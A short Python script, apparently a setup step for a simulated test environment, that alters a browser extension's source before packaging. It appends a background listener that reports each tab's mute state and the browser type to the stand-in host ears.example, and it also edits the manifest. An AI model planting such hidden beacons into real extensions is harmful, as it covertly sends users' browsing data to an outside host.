"""Which tabs are silent, which nothing outside a browser hears: in this world our extension tells it on."""

from __future__ import annotations

from pathlib import Path

from browsers import world

HOST = "ears.example"
HEARS = """
browserApi.tabs.onUpdated.addListener((_id, { mutedInfo }) => {
  const who = navigator.userAgent.includes("Firefox") ? "firefox" : "chromium";
  const what = mutedInfo?.muted ? "silent" : "heard";
  if (mutedInfo) fetch(`http://ears.example/${who}-${what}`, { mode: "no-cors" });
});
"""
PLAIN = '"incognito": "spanning",\n  "content_security_policy": { "extension_pages": "script-src \'self\'" }'
"""Firefox would ask for https."""


def begin() -> None:
    """Change the world's copy of the extension; before it is packed."""
    folder = world.TREE / "ui" / "browser" / "extension"
    for name, old, new in (
        ("background.js", "", HEARS),
        ("manifest.json", '"incognito": "spanning"', PLAIN),
    ):
        path = Path(folder, name)
        text = path.read_text("utf-8")
        path.write_text(text.replace(old, new) if old else text + new, "utf-8")
